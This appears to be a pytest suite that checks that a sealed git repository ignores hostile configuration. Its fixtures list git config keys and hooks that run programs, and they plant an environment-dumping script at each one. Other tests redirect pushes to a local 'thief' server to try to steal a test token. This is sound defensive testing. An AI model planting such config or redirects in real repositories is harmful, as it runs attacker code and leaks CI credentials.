"""What code that runs beside the gate writes to a repository, once the gate has sealed it: git reads none of it."""

import os
import shutil
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from gate.action.sealing import seal
from gate.system.git import SEALED, Git, GitError, Sealed, encode_sealed, token_header, with_header
from tests.integration.baselines.remotes import bare, http_remote
from tests.unit.system.test_git import commit, sh

TOKEN = "ghs_TheTokenThatWrites"


class Victim:
    """A copy of the template that is sealed, and then at an attacker's mercy."""

    def __init__(self, folder: Path, template: Path) -> None:
        self.folder = folder
        self.remote = Path(shutil.copytree(template / "origin.git", folder / "remotes" / "origin.git"))
        self.root = Path(shutil.copytree(template / "root", folder / "root"))
        self.home = folder / "home"
        self.home.mkdir()
        self.marker = folder / "ran"
        config = self.root / ".git" / "config"
        config.write_text(config.read_text().replace((template / "origin.git").as_uri(), self.remote.as_uri()))
        self.base, self.head = sh(self.root, "rev-parse", "HEAD~", "HEAD").split()

    @property
    def environment(self) -> dict[str, str]:
        return {**os.environ, "HOME": str(self.home), "XDG_CONFIG_HOME": str(self.home / ".config")}

    def unsealed(self) -> Git:
        return Git(self.root, environment=self.environment)

    def seal(self, **environment: str) -> Git:
        """The repository as the action reads it."""
        environment = {**self.environment, **environment}
        folder = self.folder / "sealed"
        folder.mkdir()
        sealed = seal(Git(self.root, environment=environment), folder)
        return Git(self.root, environment={**environment, SEALED: encode_sealed(sealed)})

    def program(self, name: str = "evil") -> str:
        """Something that leaves a mark when it is run."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f'#!/bin/sh\necho "$0 $@" >>{self.marker}\nenv >>{self.marker}\ncat\n')
        path.chmod(0o755)
        return str(path)

    def clone(self) -> Path:
        """An empty folder, as a store hands one over."""
        folder = self.folder / "clone"
        folder.mkdir()
        return folder

    def ran(self) -> str:
        return self.marker.read_text() if self.marker.exists() else ""


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository of three commits, and the remote that has them."""
    folder = tmp_path_factory.mktemp("template")
    remote, root = bare(folder / "origin.git"), folder / "root"
    root.mkdir()
    sh(root, "init", "-q")
    sh(root, "remote", "add", "origin", remote.as_uri())
    commit(root, "* text\n*.txt filter=evil diff=evil merge=evil\n", ".gitattributes")
    base = commit(root, "base")
    commit(root, "head", "notes.txt")
    sh(root, "tag", "v1", base)
    sh(root, "push", "-q", "origin", "main")
    return folder


@pytest.fixture
def victim(tmp_path: Path, template: Path) -> Victim:
    return Victim(tmp_path, template)


KEYS = (
    *("core.fsmonitor", "core.sshCommand", "core.askPass", "core.pager", "core.editor", "core.gitProxy"),
    *("core.alternateRefsCommand", "credential.helper", "diff.external", "diff.evil.textconv", "diff.evil.command"),
    *("filter.evil.clean", "filter.evil.smudge", "filter.evil.process", "merge.evil.driver", "gpg.program"),
    *("gpg.ssh.program", "interactive.diffFilter", "remote.origin.uploadpack", "remote.origin.receivepack"),
    *("remote.origin.vcs", "sequence.editor", "trailer.x.cmd", "uploadpack.packObjectsHook", "pager.log"),
)
ALIASES = ("status", "fetch", "rev-parse", "cat-file")


def poison(victim: Victim) -> None:
    """Everything by which a configuration makes git run a program, at every place that git looks at."""
    evil = victim.program()
    for key in KEYS:
        sh(victim.root, "config", key, evil)
    for name in ALIASES:
        sh(victim.root, "config", f"alias.{name}", f"!{evil}")
    text = "".join(f"[core]\n\t{key} = {evil}\n" for key in ("fsmonitor", "sshCommand", "askPass", "pager"))
    (victim.home / ".gitconfig").write_text(text)
    (victim.folder / "included").write_text(f'[filter "evil"]\n\tclean = {evil}\n\tsmudge = {evil}\n')
    sh(victim.root, "config", "include.path", str(victim.folder / "included"))
    hooks = victim.root / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    names = (
        "post-checkout",
        "pre-push",
        "reference-transaction",
        "post-index-change",
        "pre-auto-gc",
        "fsmonitor-watchman",
    )
    for name in names:
        shutil.copy(evil, hooks / name)
    sh(victim.root, "config", "core.hooksPath", str(hooks))


def ask_everything(git: Git, victim: Victim) -> dict[str, object]:
    """Every question that the gate has, and every command that it gives."""
    os.utime(victim.root / "notes.txt", (1, 1))  # so that its content is looked at
    git.fetch(victim.head, depth=50)
    with git.worktree(victim.base, content=True) as tree:
        inside = (tree / "agent.py").read_text()
        of_tree = (
            Git(tree, environment={**victim.environment, SEALED: encode_sealed(git.sealed)}) if git.sealed else git
        )
        there = of_tree.head()
    return {
        "head": git.head(),
        "tree": (inside, there),
        "changed": git.changed(),
        "files": sorted(git.files() or {}),
        "show": git.show(victim.base, "agent.py"),
        "parents": git.parents(victim.head),
        "first": git.first_parents(victim.head),
        "shallow": git.is_shallow(),
        "tags": git.tags(),
        "default": git.default_branch(),
        "remote": git.remote_url("origin"),
        "listed": git.text("ls-remote", "--", "origin", "refs/heads/main"),
    }


def test_a_sealed_repository_answers_as_the_repository_does(victim: Victim) -> None:
    (victim.root / "new").write_text("")
    (victim.root / ".gitignore").write_text("*.log\n")
    (victim.root / "x.log").write_text("")
    (victim.root / ".git" / "info" / "exclude").write_text("secret\n")
    (victim.root / "secret").write_text("")
    plain = victim.unsealed()
    expected = ask_everything(plain, victim)
    expected["tree"] = ("base", victim.base)
    assert ask_everything(victim.seal(), victim) == expected
    assert expected["changed"] == [".gitignore", "new"]
    assert expected["tags"] == [("v1", victim.base)]


def test_nothing_that_the_change_configures_is_run(victim: Victim) -> None:
    git = victim.seal()
    before = ask_everything(git, victim)
    poison(victim)
    os.utime(victim.root / "notes.txt", (2, 2))
    victim.unsealed().changed()
    assert "evil" in victim.ran(), "where git reads what it finds, the attack works"
    victim.marker.unlink()
    assert ask_everything(git, victim) == before
    assert victim.ran() == ""
    with git.worktree(victim.head, content=True) as tree:
        assert (tree / "notes.txt").read_text() == "head"
    clone = git.scratch(victim.clone(), "origin")
    clone.run("fetch", "-q", "origin", "main")
    assert victim.ran() == ""


def forge(git: Victim) -> None:
    """Another history: replacements, grafts, shallow ends, refs and an index that lies."""
    root = git.root
    other = commit(root, "other")
    sh(root, "replace", git.base, other)
    sh(root, "replace", "-f", git.head, other)
    (root / ".git" / "info" / "grafts").write_text(f"{git.head}\n")
    (root / ".git" / "shallow").write_text(f"{git.head}\n")
    sh(root, "tag", "v0", other)
    sh(root, "update-ref", "refs/remotes/origin/main", other)
    sh(root, "reset", "-q", "--hard", other)
    (root / "agent.py").write_text("head of another")
    sh(root, "update-index", "--assume-unchanged", "agent.py")
    (root / ".git" / "info" / "exclude").write_text("*\n")


def test_history_is_what_it_was(victim: Victim) -> None:
    git = victim.seal()
    before = ask_everything(git, victim)
    forge(victim)
    after = ask_everything(git, victim)
    assert after.pop("changed") == ["agent.py"]
    before.pop("changed")
    assert after == before


def test_a_program_of_the_changes_own_is_not_taken_for_git(victim: Victim, monkeypatch: pytest.MonkeyPatch) -> None:
    git = victim.seal()
    evil = Path(victim.program("bin/git")).parent
    sealed = git.sealed
    assert sealed is not None
    later = {**victim.environment, "PATH": f"{evil}{os.pathsep}{os.environ['PATH']}", SEALED: encode_sealed(sealed)}
    assert Git(victim.root, environment=later).head() == victim.head
    assert victim.ran() == ""
    relative = {**victim.environment, "PATH": f".{os.pathsep}{os.environ['PATH']}"}
    shutil.copy(evil / "git", victim.root / "git")
    monkeypatch.chdir(victim.root)
    assert Git(victim.root, environment=relative).head() == victim.head, "nor is one in the folder where git is started"
    assert victim.ran() == ""


def test_a_folder_that_looks_like_a_repository_is_none(victim: Victim) -> None:
    """A change can commit one; git would read its configuration before that of the repository around it."""
    inner = victim.root / "evals"
    sh(victim.root, "init", "-q", "--bare", "evals")
    sh(inner, "config", "core.fsmonitor", victim.program())
    sh(inner, "config", "core.bare", "false")
    sh(inner, "config", "core.worktree", str(inner))
    with pytest.raises(GitError, match="has the files of a git repository in it"):
        seal(Git(inner, environment=victim.environment), victim.folder / "sealed")
    assert victim.ran() == ""


def test_without_a_repository_none_is_found_later(victim: Victim, tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    environment = {**victim.environment, "GIT_CEILING_DIRECTORIES": str(tmp_path)}
    sealed = seal(Git(empty, environment=environment), tmp_path / "unused")
    sh(empty, "init", "-q")
    git = Git(empty, environment={**environment, SEALED: encode_sealed(sealed)})
    assert not git.is_repository() and git.head() is None and git.files() is None


def test_a_folder_outside_the_work_tree_is_no_part_of_it(victim: Victim, tmp_path: Path) -> None:
    git = victim.seal()
    assert git.sealed is not None
    elsewhere = Git(tmp_path / "home", environment={**victim.environment, SEALED: encode_sealed(git.sealed)})
    assert not elsewhere.is_repository()


def test_a_shallow_and_partial_clone_fetches_what_it_lacks(victim: Victim) -> None:
    copy = victim.folder / "copy"
    sh(victim.folder, "clone", "-q", "--depth=1", "--filter=blob:none", "--no-checkout", victim.remote.as_uri(), "copy")
    victim.root = copy
    git = victim.seal()
    assert git.is_shallow()
    git.fetch(victim.base, depth=50)
    assert git.show(victim.base, "agent.py") == b"base"
    assert sh(copy, "rev-parse", "--is-shallow-repository") == "true"


def logged(victim: Victim) -> Callable[[], list[tuple[str, bool]]]:
    """A git that writes down, for each of its commands, whether its environment holds what signs in."""
    log = victim.folder / "log"
    real = shutil.which("git")
    header = token_header(TOKEN).rpartition(" ")[2]
    (victim.folder / "wrap").mkdir()
    wrapper = victim.folder / "wrap" / "git"
    wrapper.write_text(
        f'#!/bin/sh\nenv | grep -q -e "{header}" -e "{TOKEN}" && held=yes || held=no\n'
        f'echo "$held $*" >>{log}\nexec {real} "$@"\n'
    )
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)

    def read() -> list[tuple[str, bool]]:
        lines = log.read_text().splitlines() if log.exists() else []
        log.write_text("")
        found = []
        for line in lines:
            held, *words = line.split()
            while words[:1] == ["-c"]:
                words = words[2:]
            found.append((words[0], held == "yes"))
        return found

    return read


def test_only_commands_of_the_network_hold_the_token(victim: Victim) -> None:
    read = logged(victim)
    path = f"{victim.folder / 'wrap'}{os.pathsep}{os.environ['PATH']}"
    with http_remote(victim.folder / "remotes", TOKEN) as (url, seen):
        sh(victim.root, "remote", "set-url", "origin", f"{url}/origin.git")
        environment = {"PATH": path, "INPUT_TOKEN": TOKEN, "GITHUB_TOKEN": TOKEN}
        git = victim.seal(**with_header(environment, url, token_header(TOKEN)))
        read()
        ask_everything(git, victim)
        store = git.scratch(victim.clone(), "origin", token=TOKEN, server=url)
        store.run("fetch", "-q", "--filter=blob:none", "--depth=1", "origin", "main")
        store.run("push", "-q", "origin", "FETCH_HEAD:refs/heads/copy")
        assert store.run("cat-file", "blob", "FETCH_HEAD:agent.py") == b"base"
    held = {command for command, holds in read() if holds}
    assert held <= {"fetch", "push", "ls-remote", "cat-file"}, held
    assert {"fetch", "push", "ls-remote"} <= held
    assert set(seen) == {f"x-access-token:{TOKEN}"}


@pytest.mark.slow
@pytest.mark.parametrize("redirect", ["insteadOf", "pushInsteadOf", "url", "pushurl", "proxy"])
def test_a_push_goes_to_the_remote_that_was_there_before(victim: Victim, redirect: str) -> None:
    bare(victim.folder / "thief" / "origin.git")
    with (
        http_remote(victim.folder / "remotes", TOKEN) as (url, seen),
        http_remote(victim.folder / "thief", TOKEN) as (evil, stolen),
    ):
        sh(victim.root, "remote", "set-url", "origin", f"{url}/origin.git")
        git = victim.seal(**with_header({}, url, token_header(TOKEN)))
        settings = {
            "insteadOf": (f"url.{evil}/.insteadOf", f"{url}/"),
            "pushInsteadOf": (f"url.{evil}/.pushInsteadOf", f"{url}/"),
            "url": ("remote.origin.url", f"{evil}/origin.git"),
            "pushurl": ("remote.origin.pushurl", f"{evil}/origin.git"),
            "proxy": ("http.proxy", evil),
        }
        sh(victim.root, "config", "--replace-all", *settings[redirect])
        sh(victim.root, "config", "--file", str(victim.home / ".gitconfig"), *settings[redirect])
        sh(victim.root, "config", "http.extraHeader", "Authorization: basic bWFsbG9yeTp4")
        store = git.scratch(victim.clone(), "origin", token=TOKEN, server=url)
        store.run("fetch", "-q", "origin", "main")
        store.run("push", "-q", "origin", "FETCH_HEAD:refs/heads/gate-baselines")
        git.fetch(victim.head, depth=50)
    assert stolen == []
    assert set(seen) == {f"x-access-token:{TOKEN}"}
    assert sh(victim.remote, "rev-parse", "gate-baselines") == victim.head


def test_the_header_that_a_checkout_left_is_read_before(victim: Victim) -> None:
    """``actions/checkout`` with its default leaves one in the repository."""
    with http_remote(victim.folder / "remotes", TOKEN) as (url, seen):
        sh(victim.root, "remote", "set-url", "origin", f"{url}/origin.git")
        sh(victim.root, "config", f"http.{url}/.extraheader", token_header(TOKEN))
        git = victim.seal()
        sh(victim.root, "config", "--unset-all", f"http.{url}/.extraheader")
        store = git.scratch(victim.clone(), "origin", token="another's", server="https://github.com")
        store.run("fetch", "-q", "origin", "main")
    assert set(seen) == {f"x-access-token:{TOKEN}"}


def test_a_remote_by_its_path_gets_no_token(victim: Victim) -> None:
    """It is a repository on this machine, whose hooks would see it."""
    read = logged(victim)
    path = f"{victim.folder / 'wrap'}{os.pathsep}{os.environ['PATH']}"
    server = "https://github.com"
    git = victim.seal(**with_header({"PATH": path, "INPUT_TOKEN": TOKEN}, server, token_header(TOKEN)))
    hook = victim.remote / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    shutil.copy(victim.program(), hook)
    store = git.scratch(victim.clone(), "origin", token=TOKEN, server=server)
    store.run("fetch", "-q", "origin", "main")
    store.run("push", "-q", "origin", "FETCH_HEAD:refs/heads/gate-baselines")
    assert "pre-receive" in victim.ran() and TOKEN not in victim.ran()
    assert not [command for command, holds in read() if holds and command != "config"]


def test_what_describes_a_repository_survives_the_way(victim: Victim) -> None:
    sealed = Sealed("/usr/bin/git", "/usr/bin", "/tmp/x", "/w", "/m", {"origin": "https://x/"}, (("http.a", ""),), True)
    git = Git(victim.root, environment={SEALED: encode_sealed(sealed)})
    assert git.sealed == sealed
